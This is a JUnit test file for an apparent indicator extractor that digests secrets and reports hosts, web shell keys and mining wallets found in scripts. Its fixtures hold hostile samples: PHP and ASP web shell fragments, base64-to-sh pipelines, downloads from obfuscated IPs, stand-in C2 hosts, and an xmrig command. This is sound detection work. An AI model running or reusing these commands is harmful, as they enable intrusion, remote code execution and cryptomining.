package bzh.vigie.observable;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.observable.Observables.Kind;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Digests are those of sha256sum, addresses those of inet_aton(3) in glibc, GitHub's key and its fingerprint as GitHub publishes them. */
final class ObservablesTest {
    private static final String TOKEN = "2aVbNcXzLk7JhGfDsApOi4UyTrEwQ";
    private static final String DIGEST_OF_TOKEN = "08fba5e7ac17";
    private static final String DIGEST_OF_PASSWORD = "97085c9fafa4";
    private static final String KEY = "2f813357bac32c6e";
    private static final String DIGEST_OF_KEY = "7c6ba823e079";
    private static final String DEFLATED =
            "UylILC62Vc8uU7dWyU6ttFU3SrMwNDY2NU9KTDY2SjZLBYq72CYlFqeamcSnpCbnp6RqqMQH+AeHRKuAtMZqWqeWJeZoqLhoWgMA";
    private static final String TURNED =
            "HlyVYP62Ip8hH7qJlH6ggSH3FeZjAQL2AH9XGQL2FwMYOLd72PLySdrnzpFacPoac6EddZDU+NrUEXhNgZMdJdrJWrMbdYubJtZN";

    @Test
    void aSecretLeavesTheTextAsItsDigestOnly() {
        for (String script : List.of(
                "#!/bin/sh\n/opt/t/n http 80 --authtoken " + TOKEN + "\n",
                "TUNNEL=\"" + TOKEN + "\"\nexec t run\n",
                "echo " + base64("n --authtoken=" + TOKEN) + " | base64 -d | sh",
                TOKEN)) {
            List<String> found = Observables.of(List.of(script));
            assertTrue(Observables.values(found, Kind.SECRET).contains(DIGEST_OF_TOKEN), script);
            assertFalse(found.toString().contains(TOKEN), found.toString());
        }
        for (String script : List.of(
                "sshpass -p 'Wq8nZt4K2v' scp a b:",
                "curl -u op:Wq8nZt4K2v x",
                "PGPASSWORD=Wq8nZt4K2v psql",
                "curl -T f ftp://op:Wq8nZt4K2v@203.0.113.4/")) {
            List<String> found = Observables.of(List.of(script));
            assertEquals(List.of(DIGEST_OF_PASSWORD), Observables.values(found, Kind.PASSWORD), script);
            assertFalse(found.toString().contains("Wq8nZt4K2v"), found.toString());
        }
    }

    /**
     * The key of a web shell, made by {@code printf kv-2026 | md5sum | cut -c1-16} and digested by sha256sum, in what Python's zlib
     * ({@code wbits=-15}, as gzdeflate of PHP) and rot13 make of a page.
     */
    @Test
    void theKeyOfAWebShellIsKnownInsideOfWhatDecodesIt() {
        for (String page : List.of(
                "<?php $pass='kv'; $key='" + KEY + "'; $D=base64_decode($_POST[$pass]);",
                "<?php eval(gzinflate(base64_decode('" + DEFLATED + "')));",
                "<?php eval(gzinflate(base64_decode(str_rot13('" + TURNED + "'))));",
                "$s=New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + DEFLATED
                        + "'),[IO.Compression.CompressionMode]::Decompress)")) {
            List<String> found = Observables.of(List.of(page));
            assertTrue(Observables.values(found, Kind.PASSWORD).contains(DIGEST_OF_KEY), page + found);
        }
        for (String other : List.of("$id='1234567890123456';", "$id='abcdefabcdefabcd';", "$k='9c31ab4fe07d11c';")) {
            assertEquals(List.of(), Observables.of(List.of(other)), other);
        }
    }

    /**
     * Digests of {@code printf ronde-2026 | openssl dgst -ALGORITHM -r}; as Base64 of {@code openssl dgst -ALGORITHM -binary | base64 -w0}, with
     * {@code tr +/ -_} Base64url; with colons of {@code openssl dgst -c}. The last of each line is {@code printf DIGEST | sha256sum | cut -c1-12}.
     */
    @Test
    void aDigestIsTheSameInEveryWriting() {
        String[][] digests = {
            {"572b424d59b48516d945d28021cb9dc1", "VytCTVm0hRbZRdKAIcudwQ==", "a602ea97a91a"},
            {"4fd2e76155d2220da257bc809f555b13b3533d37", "T9LnYVXSIg2iV7yAn1VbE7NTPTc=", "fc70d7937261"},
            {
                "ac3f81b0d198cfc9668d322da8ef3eb67819d995204d579dfdaa3223a2ed4ea7",
                "rD+BsNGYz8lmjTItqO8+tngZ2ZUgTVed/aoyI6LtTqc=",
                "aaed661b5e0b"
            },
            {
                "4078c58c0c6b4390dec95bd8cd7ee6845217a35ccfa455a96e7182aa64ef5193"
                        + "e3c05332fdd738c4bb5c915fa9ef255d4ea895d045bb19ae2699a75fa9ab6486",
                "QHjFjAxrQ5DeyVvYzX7mhFIXo1zPpFWpbnGCqmTvUZPjwFMy/dc4xLtckV+p7yVdTqiV0EW7Ga4mmadfqatkhg==",
                "09a0b1d5f316"
            }
        };
        for (String[] digest : digests) {
            String hex = digest[0];
            String upper = hex.toUpperCase(Locale.ROOT);
            String half = upper.substring(0, 18);
            String rest = upper.substring(18);
            String base64 = digest[1];
            for (String written : List.of(
                    "if (md5($p) === '" + hex + "') {",
                    "K=" + upper + "; export K",
                    "h = 0x" + upper,
                    "fp " + hex.replaceAll("..(?!$)", "$0:"),
                    "fp: " + upper.replaceAll("..(?!$)", "$0-") + "\n",
                    "base64_encode(md5($p, true)) === '" + base64 + "'",
                    "\"h\": \"" + base64.replace('+', '-').replace('/', '_').replace("=", "") + "\"",
                    "h=" + base64,
                    "h = \"" + half + "\"..\"" + rest + "\"",
                    "$h = \"" + half + "\" . '" + rest + "';",
                    "h = '" + half + "' + '" + rest + "'",
                    "h = (\"" + half + "\"\n     \"" + rest + "\")",
                    "h='" + half.substring(0, 7) + "''" + half.substring(7) + "'\"" + rest + "\"",
                    "h = \"" + base64.substring(0, 9) + "\" & \"" + base64.substring(9) + "\"")) {
                List<String> found = Observables.of(List.of(written));
                assertTrue(Observables.values(found, Kind.SECRET).contains(digest[2]), written + found);
            }
        }
    }

    /** Names of Java's and Spring's classes, of a variable of Debian's, a path, a row of AES's table (FIPS 197, figure 7), hardware addresses. */
    @Test
    void namesAndTablesAreNoDigests() {
        for (String text : List.of(
                "if(getDefaultSSLSocketF4cto==null)",
                "usr/share/Doc2/x11Common/Q",
                "PEM/write/bio/X509/REQ",
                "SKL/TKN/U32/FMT/SAMPLE/TYPE",
                "DEBIAN_FRONTEND_NONINTER1V=\"x\"",
                "0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76,\n",
                "63 7c 77 7b f2 6b 6f c5 30 01 67 2b fe d7 ab 76",
                "52:54:00:12:34:56 52:54:00:ab:cd:ef",
                "sed 's/a/b/' \"$x\" \"y\" 'z' + 'abc'",
                "AbstractAnnotationConfigDispatcherServletIn")) {
            assertEquals(List.of(), Observables.values(Observables.of(List.of(text)), Kind.SECRET), text);
        }
    }

    @Test
    void addressesAndHostsAreToldInTheirUsualWriting() {
        assertEquals(
                List.of("address=203.0.113.66", "host=c2.mallory.example", "host=x.evil.test"),
                Observables.of(List.of(
                        "wget http://0xCB007142/a; curl http://3405803842/b; nc 0313.0.0161.0102 9",
                        "h = 'c2.mallory.example'; u = \"https://x.evil.test/p\"")));
        assertEquals(
                List.of("key=SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU", "path=/dev/shm/.k"),
                Observables.of(
                        List.of("echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
                                + " > /dev/shm/.k")));
        assertEquals(
                List.of("parameter=klk123456"),
                Observables.of(
                        List.of("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"klk123456\"],\"unsafe\");%>")));
    }

    /** Names of code, numbers, keys of private nature, digests of nothing: a script has many of these. */
    @Test
    void codeIsNoObservable() {
        assertEquals(
                List.of(),
                Observables.of(
                        List.of(
                                "import os.path\nself.logger.info(x.name)\nsys.stdout.write(json.dumps(a.id))\n",
                                "import java.net.*; using System.Net; document.location = window.name; Request.Item; foo.run(); app.io",
                                "sha256WithRSAEncryption Utf8ToIso88591Converter(x) TLS_AES_128_GCM_SHA256",
                                "date +%s > 1700000000; chmod 755 a; version 1.2.3",
                                "d41d8cd98f00b204e9800998ecf8427e",
                                "id 7c9e6679-7425-40de-944b-e07fc1f90ae7",
                                "ping 127.0.0.1 192.168.1.4 10.0.0.1",
                                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB\n"
                                        + "AAAAMwAAAAtzc2gtZWQyNTUxOQAAACDc9kPj1mXo5Qm3T7xkq2Rr\n-----END OPENSSH PRIVATE KEY-----")));
    }

    @Test
    void hostileTextIsBounded() {
        Random random = new Random(30);
        String all = IntStream.range(0, 20_000)
                .mapToObj(i -> "x" + i + ".evil.example " + Long.toString(random.nextLong(), 36) + "aZ9kQ2 ")
                .collect(Collectors.joining());
        List<String> found =
                Observables.of(List.of(all, "%".repeat(100_000), "A1b".repeat(100_000), "$_GET[".repeat(9_999)));
        assertTrue(found.size() <= Observables.MOST, found.size() + " of them");
        assertTrue(found.stream().allMatch(each -> each.length() <= 300));
        assertEquals(found, Observables.of(List.of(all, "%".repeat(100_000), "A1b".repeat(100_000))), "in one order");
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** As xmrig's manual has it: WALLET.WORKER or WALLET+DIFFICULTY; the wallet is that of the Monero project's donations, its digest of sha256sum. */
    @Test
    void aWalletIsKnownWhateverMachineStandsBehindIt() {
        String wallet =
                "888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H";
        for (String text : List.of(
                "xmrig -o p:3333 -u " + wallet + " -p x",
                "xmrig -o p:3333 -u " + wallet + ".accueil-2 -p x",
                "{\"pools\": [{\"user\": \"" + wallet + "+50000\"}]}")) {
            assertTrue(
                    Observables.values(Observables.of(List.of(text)), Kind.SECRET)
                            .contains("290a74db5a60"),
                    text);
        }
        String[] tokens = {
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.x"
        };
        for (String token : tokens) {
            assertFalse(
                    Observables.of(List.of("curl -H 'X: " + token + "' h"))
                            .toString()
                            .contains("secret=d328d517e090"),
                    token);
        }
    }

    /** Digests are those of sha256sum, the encoded word is that of {@code printf 'run upd7734x' | base64}. */
    @Test
    void aListedWordIsToldInWhicheverWritingAndNoOther() {
        Set<String> listed = Set.of("5e174c3ab213", "7a7c5f7debee");
        for (String text : List.of(
                "nohup /opt/a/UPD7734x.sh &",
                "x=upd7734x; curl http://h/$x",
                "echo cnVuIHVwZDc3MzR4 | base64 -d | sh",
                "mail=a@upd7734x",
                "insmod /lib/upd7734x.ko",
                "xz -d /var/lib/upd7734x.ko.xz",
                "cp libs/lib_upd7734x-2.so.1 /usr/lib",
                "/opt/b/upd7734x.elf --daemon")) {
            assertEquals(List.of("word=5e174c3ab213"), Observables.words(List.of(text), listed::contains), text);
        }
        assertEquals(
                List.of("word=7a7c5f7debee"),
                Observables.words(List.of("curl -H 'X: Zq8WnT4kV2xLpR7mJ5' h"), listed::contains));
        assertEquals(List.of(), Observables.words(List.of("upd7734xy", "zq8wnt4kv2xlpr7mj5"), listed::contains));
    }
}
